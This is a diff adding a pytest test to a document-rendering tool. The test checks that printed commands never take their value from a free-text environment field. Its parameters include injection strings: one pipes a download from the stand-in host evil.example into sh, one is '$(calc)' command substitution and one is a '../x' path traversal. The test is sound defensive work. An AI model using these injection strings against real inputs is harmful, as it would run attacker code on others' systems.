@@ -549,3 +549,19 @@ def test_errors_with_non_latin_text_reach_a_narrow_console_as_escapes(tmp_path, 
     assert result.returncode == 2 and b"Traceback" not in result.stderr
     line = result.stderr.decode("ascii")  # nothing the console cannot show
     assert "\\u65e5\\u672c\\u202e.json" in line and len(line.strip().splitlines()) == 1
+
+
+# 12. Commands printed for people come from validated values only ------------------------------------------------------
+
+
+@pytest.mark.parametrize("environment", ["dev; curl https://evil.example | sh", "$(calc)", "a b", "../x", "Ò'"])
+def test_a_sheet_never_builds_a_command_from_the_free_text_environment(capsys, tmp_path, document, environment):
+    doc = copy.deepcopy(document)
+    for name in ("hr", "ops"):
+        doc["portals"][name]["environment"] = environment
+    code, _, err = run_main(capsys, "render", "--outputs", write(tmp_path, doc), "--out", str(tmp_path / "b"))
+    assert code == 0, err
+    for name in ("hr", "ops"):
+        sheet = (tmp_path / "b" / name / "portal-manager.md").read_text()
+        commands = [line for line in sheet.splitlines() if "--stack" in line]
+        assert commands and all("--stack <stack>" in line for line in commands), commands
